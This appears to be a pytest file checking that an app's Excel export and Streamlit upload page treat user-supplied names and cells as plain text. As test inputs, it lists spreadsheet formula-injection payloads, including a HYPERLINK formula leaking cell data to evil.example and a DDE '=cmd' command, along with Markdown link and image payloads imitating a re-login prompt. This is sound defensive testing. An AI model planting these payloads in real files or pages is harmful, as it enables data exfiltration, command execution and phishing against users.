"""Uploaded names and cells reach Excel as text and the page as plain text, never as formulas, Markdown or links
."""

import io

import openpyxl
import pandas as pd
import pytest

from unionbench.export import xlsx_bytes

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击")',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-2+3",
    "@SUM(A1:A2)",
    "=1/0",
    "![t](http://127.0.0.1:9/x.png)[重新登录](http://evil.example)www.evil.example.csv",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_the_xlsx_download_writes_every_user_string_as_a_text_cell_with_its_text_unchanged(text):
    frame = pd.DataFrame({"file_name": [text], "user_name": [text], "value": [1.5]})
    book = openpyxl.load_workbook(io.BytesIO(xlsx_bytes({"data": frame})))
    sheet = book["data"]
    for cell in (sheet["A2"], sheet["B2"]):
        assert (cell.data_type, cell.value) == ("s", text)
    assert (sheet["C2"].data_type, sheet["C2"].value) == ("n", 1.5)  # numbers stay numbers


# --- the upload page draws names and cells as plain text ---------------------------------------------------------

from pathlib import Path  # noqa: E402

import streamlit as st  # noqa: E402
from streamlit.testing.v1 import AppTest  # noqa: E402

from unionbench.auth import hash_password  # noqa: E402
from unionbench.ingest import Upload, commit_file  # noqa: E402

ROOT = Path(__file__).resolve().parent.parent
PASSWORD = "quarterly-2026"
HOSTILE_NAME = "![t](http://127.0.0.1:9/x.png)[重新登录](http://evil.example)www.evil.example.csv"
HOSTILE_USER = "=cmd|' /C calc'!A0 [点此](http://evil.example)"
HOSTILE_CELL = "[重新登录](http://evil.example)"


def markdown_texts(at: AppTest) -> list[str]:
    """Every text Streamlit would read as Markdown: markdown, captions, alerts, titles, tables."""
    kinds = ("markdown", "caption", "error", "warning", "info", "success", "title", "header", "subheader", "table")
    return [str(getattr(element, "value", "")) for kind in kinds for element in at.get(kind)]


def html_texts(at: AppTest) -> list[str]:
    return [element.proto.body for element in at.get("html")]


@pytest.fixture
def signed_in(writable_db, monkeypatch):
    monkeypatch.setenv("UNIONBENCH_DB", str(writable_db))
    monkeypatch.chdir(ROOT)
    commit_file(writable_db, Upload("地区,职工培训,季度\n青川县,7,2026Q3\n".encode(), HOSTILE_NAME), HOSTILE_USER)
    st.cache_data.clear()  # cached by snapshot name: another test's copy of the demo database has the same names
    at = AppTest.from_file(str(ROOT / "dashboard.py"), default_timeout=60)
    at.secrets["upload_users"] = {"clerk": hash_password(PASSWORD, iterations=1000)}
    at.run()
    at.switch_page("app_pages/upload.py")
    at.run()
    at.text_input[0].input("clerk")
    at.text_input[1].input(PASSWORD)
    at.button[0].click()
    return at.run()


def test_the_upload_history_shows_a_hostile_file_and_user_name_as_escaped_plain_text(signed_in):
    at = signed_in
    assert not at.exception
    assert not [text for text in markdown_texts(at) if "evil.example" in text]
    history = next(body for body in html_texts(at) if 'data-testid="ub-history"' in body)
    assert f"<td>{HOSTILE_NAME}</td>" in history  # no character here needs escaping: shown as written
    assert "<td>=cmd|&#x27; /C calc&#x27;!A0 [点此](http://evil.example)</td>" in history
    assert "<a " not in history and "<img" not in history
    assert "<td>演示数据</td><td>12240</td>" in history  # how a file was read, in words (not "demo")


def test_the_problem_table_shows_a_hostile_cell_as_plain_text(signed_in):
    at = signed_in
    bad = f"地区,职工培训\n青川县,{HOSTILE_CELL}\n".encode()  # the quarter: the page's picker
    at.get("file_uploader")[0].set_value((HOSTILE_NAME, bad, "text/csv"))
    at.run()
    assert not at.exception
    assert not [text for text in markdown_texts(at) if "evil.example" in text]
    problems = next(body for body in html_texts(at) if 'data-testid="ub-problems"' in body)
    assert f"<td>{HOSTILE_CELL}</td>" in problems and "<a " not in problems
